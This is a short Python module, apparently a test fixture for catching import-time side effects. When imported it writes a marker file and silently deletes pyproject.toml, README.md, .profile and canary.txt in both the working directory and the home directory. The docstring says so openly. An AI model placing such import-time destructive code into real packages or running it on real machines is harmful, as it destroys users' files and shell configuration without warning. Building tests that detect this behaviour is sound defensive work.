"""Writes and deletes files in the working directory and in $HOME at import time."""

import contextlib
import os
from pathlib import Path

for _directory in (Path.cwd(), Path.home()):
    (_directory / "written-by-import.txt").write_text("hostile\n")
    for _victim in ("pyproject.toml", "README.md", ".profile", "canary.txt"):
        with contextlib.suppress(OSError):
            os.remove(_directory / _victim)
